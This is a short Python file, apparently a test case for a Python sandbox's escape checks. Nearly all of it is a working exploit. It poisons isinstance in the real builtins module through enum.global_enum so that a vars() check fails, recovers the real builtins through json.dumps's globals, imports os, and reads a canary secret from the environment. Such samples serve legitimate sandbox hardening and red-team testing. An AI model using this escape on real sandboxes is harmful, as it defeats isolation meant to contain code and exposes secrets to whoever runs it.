# technique: enum.global_enum(module='builtins') rebinds isinstance in the real builtins module to a callable member returning False, so a Python-level vars() check lets vars(object) through
# expect: any
import enum
import json
class Mixin:
    def __call__(self, *args, **kwargs):
        return False
Poison = enum.Enum("Poison", {"isinstance": 1}, module="builtins", type=Mixin)
enum.global_enum(Poison)
ga = vars(object)["__getattribute__"]
real_builtins = ga(json.dumps, "__globals__")["__builtins__"]
real_builtins["isinstance"] = isinstance
os_mod = real_builtins["__import__"]("os")
(os_mod.environ.get("SAFEPY_CANARY_SECRET"), os_mod.getpid())
